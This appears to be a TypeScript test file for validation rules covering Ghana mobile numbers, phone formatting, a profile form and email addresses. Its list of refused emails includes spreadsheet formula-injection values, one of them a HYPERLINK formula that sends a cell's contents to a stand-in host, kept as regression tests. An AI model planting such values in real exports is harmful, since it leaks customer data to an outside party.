import { EMAIL_PATTERN, GHANA_MOBILE_PATTERN, isPhoneNumber, normaliseGhanaMobile } from './rules';
import { formatPhone } from './format';
import { profileSchema, validateWith } from './forms';

describe('Ghana mobile numbers', () => {
  it.each([
    ['024 123 4567', '+233241234567'],
    ['0241234567', '+233241234567'],
    ['+233 24 123 4567', '+233241234567'],
    ['+233241234567', '+233241234567'],
    ['233241234567', '+233241234567'],
    ['  055-123-4567 ', '+233551234567'],
    ['020 000 0000', '+233200000000'],
    ['0591234567', '+233591234567'],
    ['+233 (0)?', undefined],
    ['0301234567', undefined], // a landline (030) takes no SMS
    ['0511234567', undefined], // no network uses 051
    ['024123456', undefined], // a digit short
    ['02412345678', undefined], // a digit too many
    ['+44 7700 900123', undefined],
    ['+2330241234567', undefined], // the 0 belongs to the national form only
    ['24 123 4567', undefined],
    ['', undefined],
    ['call me', undefined],
  ])('%j is stored as %j', (typed, stored) => {
    expect(normaliseGhanaMobile(typed)).toBe(stored);
    expect(GHANA_MOBILE_PATTERN.test(typed)).toBe(stored !== undefined);
  });

  it('reads a stored number back the way people write it', () => {
    expect(formatPhone('+233241234567')).toBe('024 123 4567');
  });

  it("the profile form takes an empty phone, and says the rule's message for a wrong one", () => {
    const base = { name: 'Ama Mensah', email: 'ama@example.com' };
    expect(validateWith(profileSchema, { ...base, phone: '' }).ok).toBe(true);
    expect(validateWith(profileSchema, { ...base, phone: '0241234567' }).ok).toBe(true);
    expect(validateWith(profileSchema, { ...base, phone: '12345' })).toEqual({
      ok: false,
      errors: { phone: ['Enter a Ghana mobile number, like 024 123 4567 or +233 24 123 4567.'] },
    });
  });
});

describe('isPhoneNumber: phone numbers as people in Ghana write them', () => {
  it.each(['+233 24 123 4567', '024 123 4567', '024-123-4567', '0241234567', '233241234567', '(024) 123 4567', '+233-55-123-4567'])('accepts %s', (phone) => {
    expect(isPhoneNumber(phone)).toBe(true);
  });
  it.each(['12345', '024 123', 'phone me', '+233 24 123 4567 8', '024-123-456a'])('refuses %s', (phone) => {
    expect(isPhoneNumber(phone)).toBe(false);
  });
});

describe('email addresses', () => {
  it.each([
    'ama@example.com',
    'Ama.Mensah@example.com.gh',
    'kofi+laundry@mail.example.org',
    "o'neil@example.co.uk",
    'efua_owusu-2@sub-domain.example.gh',
    'customer12.1767225600000@example.com',
  ])('takes %j', (email) => {
    expect(EMAIL_PATTERN.test(email)).toBe(true);
  });

  it.each([
    // Each was accepted before, and a spreadsheet opening the orders export runs the first.
    '=HYPERLINK("http://evil.example/?"&A2)&@x.co',
    '=1+2@example.com',
    '+cmd@example.com',
    '-2+3@example.com',
    '@ama@example.com',
    '"ama mensah"@example.com',
    'ama..mensah@example.com',
    '.ama@example.com',
    'ama.@example.com',
    'ama(work)@example.com',
    'ama@example',
    'ama@-example.com',
    'ama@example-.com',
    'ama@exa_mple.com',
    'ama@example.c',
    'ama@example..com',
    'ama mensah@example.com',
    `${'a'.repeat(65)}@example.com`,
    'amé@example.com',
  ])('refuses %j', (email) => {
    expect(EMAIL_PATTERN.test(email)).toBe(false);
  });
});
